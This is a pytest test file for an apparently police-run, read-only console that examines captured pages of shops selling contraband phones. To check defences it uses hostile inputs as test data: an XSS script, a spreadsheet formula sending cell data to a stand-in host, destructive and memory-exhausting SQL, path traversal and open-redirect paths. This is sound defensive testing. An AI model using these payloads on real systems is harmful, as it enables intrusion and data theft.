"""The console as an analyst's browser meets it: `portique console` on a workspace that holds a hostile shop."""

import csv
import io
import json
import re
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from email.message import Message
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from monitor.console.metadata import _QUERIES
from monitor.daily import understand
from tests.monitor.archived import product_page, visited
from tests.monitor.console.running import running
from tests.monitor.desks import desk_in, watch

pytestmark = pytest.mark.xdist_group("console")

AT = datetime(2026, 11, 3, 6, 0, tzinfo=UTC)
HOSTILE = "<script>alert(document.domain)</script>"
OFFER = "Téléphone déplaqué, passe les portiques sans sonner, livré au parloir."


@dataclass(frozen=True)
class Console:
    """A running console."""

    address: str
    captures: list[str]
    opener: urllib.request.OpenerDirector
    pid: int

    def get(self, path: str, *, known: bool = True, host: str = "") -> tuple[int, Message, bytes]:
        """Return status, headers and body of a page, as asked by who came by the link, or under another name."""
        opener = self.opener if known else urllib.request.build_opener()
        request = urllib.request.Request(
            self.address + path, headers={"Host": host} if host else {}
        )
        try:
            with opener.open(request, timeout=30) as answer:
                return answer.status, answer.headers, answer.read()
        except urllib.error.HTTPError as error:
            with error:
                return error.code, error.headers, error.read()

    def page(self, path: str) -> LexborHTMLParser:
        """Return a page that must be there."""
        status, _, body = self.get(path)
        assert status == 200, body[:500]
        return LexborHTMLParser(body)


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    """The console of a workspace with one visit of a shop that writes markup into its names."""
    folder = tmp_path_factory.mktemp("console") / "w"
    with desk_in(folder, investigation={"title": "Veille & Cie"}) as desk:
        source = watch(desk)
        captures = visited(
            desk,
            source,
            AT,
            (
                "https://shop.example/",
                "home",
                f"<title>Boutique</title><p>{OFFER}</p><a href=/p/1>Mini</a>",
            ),
            (
                "https://shop.example/p/1",
                "product",
                product_page("Mini " + HOSTILE.replace("<", "&lt;"), "49.90", OFFER),
            ),
        )
        understand(desk)
    with running(folder) as (address, opener, pid):
        yield Console(address, captures, opener, pid)


def test_first_page_asks_the_first_questions(console: Console) -> None:
    """Who opens the console for the first time finds the questions, not a list of tables."""
    page = console.page("/")

    assert page.css_first("h1").text(strip=True) == "Portique — Veille & Cie"
    assert {a.attributes["href"] for a in page.css("a")} >= {
        f"/findings/{name}" for name in _QUERIES
    }


@pytest.mark.parametrize("name", sorted(_QUERIES))
def test_saved_query_runs(console: Console, name: str) -> None:
    """A saved question that fails after a change of schema fails here, not at an analyst's desk."""
    wanted = set(re.findall(r":(\w+)", _QUERIES[name][1]))
    given = {
        key: {"site": "shop.example", "mots": "portiques", "piste": "lead-x", "valeur": "essai"}[
            key
        ]
        for key in wanted
    }
    status, _, body = console.get(
        f"/findings/{name}.json?_shape=objects&{urllib.parse.urlencode(given)}"
    )
    answer = json.loads(body)
    title = (
        console.page(f"/findings/{name}?{urllib.parse.urlencode(given)}").css_first("title").text()
    )

    assert (status, answer["ok"], answer.get("error")) == (
        200,
        True,
        None,
    )
    assert title == f"{_QUERIES[name][0]} — Portique"


def test_listing_is_shown_in_its_latest_and_fullest_form(console: Console) -> None:
    """Price and stock come from the product's own page."""
    _, _, body = console.get("/findings/annonces.json?_shape=objects&site=shop.example")
    (row,) = json.loads(body)["rows"]

    assert (row["prix"], row["devise"], row["stock"], row["preuve"]) == (
        "49.9",
        "EUR",
        "InStock",
        console.captures[1],
    )


@pytest.mark.parametrize(
    "path",
    [
        "/site/shop.example",
        "/capture/{}",
        "/findings/annonces?site=shop.example",
        "/findings/recherche?mots=mini",
    ],
)
def test_words_of_strangers_are_never_markup(console: Console, path: str) -> None:
    """A shop that names its article after a script must not run in the console of the police."""
    page = console.page(path.format(console.captures[1]))

    assert "alert(document.domain)" in page.body.text()
    assert [s for s in page.css("script") if "alert(document" in s.text()] == []


@pytest.mark.parametrize(
    "path",
    [
        "/site/shop.example",
        "/capture/{}",
        "/findings/recherche?mots=portiques",
        "/findings/document",
    ],
)
def test_no_link_leads_to_a_watched_site(console: Console, path: str) -> None:
    """One click would visit the shop from the reader's own machine and tell it who looks."""
    page = console.page(path.format(console.captures[0]))

    assert [
        a
        for a in page.css("a")
        if "shop.example" in urllib.parse.urlsplit(a.attributes["href"] or "").netloc
    ] == []


@pytest.mark.parametrize("path", ["/site/shop.example", "/capture/{}", "/proposals", "/health"])
def test_own_pages_are_sandboxed(console: Console, path: str) -> None:
    """No script, no frame, no request elsewhere, whatever slips through the escaping."""
    _, headers, _ = console.get(path.format(console.captures[0]))

    assert headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert "sandbox" in headers["Content-Security-Policy"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"


def test_raw_bytes_are_an_attachment(console: Console) -> None:
    """What a stranger sent is handed out to be saved, never to be shown."""
    _, headers, body = console.get(f"/capture/{console.captures[0]}/raw")

    assert headers["Content-Type"] == "application/octet-stream"
    assert headers["Content-Disposition"].startswith("attachment")
    assert OFFER.encode() in body


@pytest.mark.parametrize(
    "path",
    [
        "/site/inconnu.example",
        "/lead/lead-0",
        "/capture/00000000-0000-0000-0000-000000000000",
        "/capture/00000000-0000-0000-0000-000000000000/raw",
        "/capture/{}/picture",
        "/capture/..%2f..%2fetc",
    ],
)
def test_unknown_things_are_not_found(console: Console, path: str) -> None:
    """A wrong id is an answer, not a failure; a page is not a picture."""
    status, _, _ = console.get(path.format(console.captures[0]))

    assert status == 404


def test_capture_page_checks_the_bytes_as_it_is_opened(console: Console) -> None:
    """What is shown as sound was read and digested for this very answer."""
    words = console.page(f"/capture/{console.captures[0]}").body.text()

    assert "SHA-256 vérifié à l'instant" in words
    assert "octets" in words


def test_console_changes_nothing(console: Console) -> None:
    """Read-only means that no sentence of SQL can write."""
    query = urllib.parse.urlencode({"sql": "delete from site"})
    status, _, body = console.get(f"/findings?{query}")

    assert status in {400, 403} or b"must be a SELECT" in body
    assert console.page("/site/shop.example").css_first("h1") is not None


def test_a_table_in_a_file_holds_no_formula(console: Console) -> None:
    """A name that begins like a formula would be run by the spreadsheet that opens the file; numbers stay numbers."""
    cells = ['=HYPERLINK("http://mal.example/?x="&A1,"Mini")', "+1+1", "-2", "-1,5e3", "@SUM(A1)", " \n=1", "＝1", "\t=1", 'Mini "x",\n=y', "−4"]  # fmt: skip
    asked = " union all ".join(f"select {n} as n, '{cell}' as cell" for n, cell in enumerate(cells))
    status, headers, body = console.get("/findings.csv?" + urllib.parse.urlencode({"sql": asked}))
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))

    assert status == 200
    assert headers["Content-Type"].startswith("text/plain")
    assert [row["cell"] for row in rows] == [
        f"'{cells[0]}", "'+1+1", "-2", "-1,5e3", "'@SUM(A1)", "' \n=1", "'＝1", "'\t=1", cells[8], "−4",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "path",
    ["/", "/findings", "/ledger/capture.json", "/findings.json?sql=select+1", "/-/databases.json", "/portique/recherche", "/-/actor.json"],
)  # fmt: skip
def test_nobody_comes_in_without_the_link(console: Console, path: str) -> None:
    """Anybody on the machine may connect; every route refuses whoever has not come by the one link, which is spent."""
    status, _, body = console.get(path, known=False)

    assert (status, "lien à usage unique" in body.decode()) == (403, True)


def test_another_name_of_this_address_gets_nothing(console: Console) -> None:
    """A page the analyst visits may have its own name lead to 127.0.0.1 and read on: the cookie is not enough."""
    assert console.get("/findings.json", host="shop.example:8001")[0] == 421


@pytest.mark.parametrize(
    "sql",
    ["select length(zeroblob(900000000))", "select length(replace(hex(zeroblob(20000000)), '0', 'xxxxxxxx'))", "select length(printf('%.*c', 900000000, 'x'))"],
)  # fmt: skip
def test_a_question_takes_a_bounded_piece_of_memory(console: Console, sql: str) -> None:
    """A few letters of SQL make gigabytes; the console answers that it is too much and goes on."""
    status, _, _ = console.get(f"/findings.json?sql={urllib.parse.quote(sql)}")
    held = re.search(r"VmHWM:\s+(\d+) kB", Path(f"/proc/{console.pid}/status").read_text())

    assert status in {200, 400}
    assert held is not None
    assert int(held[1]) < 700_000
    assert console.get("/")[0] == 200


@pytest.mark.parametrize(
    "sql",
    [
        "attach 'x.db' as x", "pragma writable_schema=1", "select load_extension('x')", "select writefile('x', 'y')",
        "with recursive n(x) as (select 1 union all select x+1 from n) select count(*) from n",
        "select count(*) from capture a, capture b, sqlite_master c, sqlite_master d, sqlite_master e, sqlite_master f, sqlite_master g",
        "vacuum into 'x.db'", "select randomblob(1000000000)", 'select "a]b" from [x',
    ],
)  # fmt: skip
def test_a_hostile_question_gets_a_sentence(console: Console, sql: str, tmp_path: Path) -> None:
    """Case 79: what writes, loads or never ends is refused or ended, and the next question has its answer."""
    status, _, body = console.get("/ledger.json?" + urllib.parse.urlencode({"sql": sql}))

    assert status in {400, 403}, body[:300]
    assert b"Traceback" not in body
    assert console.get("/")[0] == 200


@pytest.mark.parametrize("words", ['"', "NEAR(", "*", "nom:mini", "%", "_", "mini AND", "-", "é\u202e", "a" * 5_000, ""])  # fmt: skip
def test_search_syntax_is_only_words(console: Console, words: str) -> None:
    """Case 78: what the full-text index would take for its own language is looked for as it stands, or nothing is found."""
    asked = urllib.parse.urlencode({"mots": words})
    status, _, body = console.get(f"/findings/recherche.json?_shape=objects&{asked}")

    assert (status, json.loads(body)["ok"]) == (200, True), body[:300]


def test_search_finds_words_and_phrases(console: Console) -> None:
    """What is escaped is still found."""
    asked = urllib.parse.urlencode({"mots": 'passe "livré au parloir"'})
    _, _, body = console.get(f"/findings/recherche.json?_shape=objects&{asked}")

    assert "livré" in json.loads(body)["rows"][0]["extrait"]


def test_a_long_answer_is_cut_and_said(console: Console) -> None:
    """Case 80: a million rows do not pass; the answer says that there were more."""
    sql = "with recursive n(x) as (select 1 union all select x+1 from n limit 1000000) select x from n"
    asked = urllib.parse.urlencode({"sql": sql})
    status, _, body = console.get(f"/findings.json?{asked}")
    answer = json.loads(body)

    assert (status, answer["truncated"]) == (200, True)
    assert len(answer["rows"]) <= 10_000


@pytest.mark.parametrize("path", ["//mal.example/", "/%5cmal.example/", "/-/auth-token?token=x&next=//mal.example/", "/-/logout?next=//mal.example/"])  # fmt: skip
def test_nothing_leads_to_another_site(console: Console, path: str) -> None:
    """Case 74: a link to the console must not become one to a stranger."""
    _, headers, _ = console.get(path)

    assert "mal.example" not in (headers["Location"] or "")


def test_the_link_is_not_guessed(console: Console) -> None:
    """Cases 76 and 77: the secret is one of 2**128 at least, and what is refused says nothing nearer."""
    refused = {
        (status, len(body))
        for status, _, body in (
            console.get(f"/-/auth-token?token={number:064x}", known=False) for number in range(50)
        )
    }

    assert len(refused) == 1
    assert {status for status, _ in refused} == {403}
